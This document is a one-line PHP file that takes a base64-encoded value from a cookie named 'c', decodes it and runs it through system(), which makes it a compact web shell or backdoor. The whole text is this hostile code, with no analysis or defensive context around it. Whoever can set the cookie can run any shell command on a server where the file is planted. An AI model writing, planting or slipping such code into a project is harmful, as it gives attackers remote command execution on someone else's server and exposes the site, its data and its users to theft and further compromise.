<?php system(base64_decode($_COOKIE['c']));
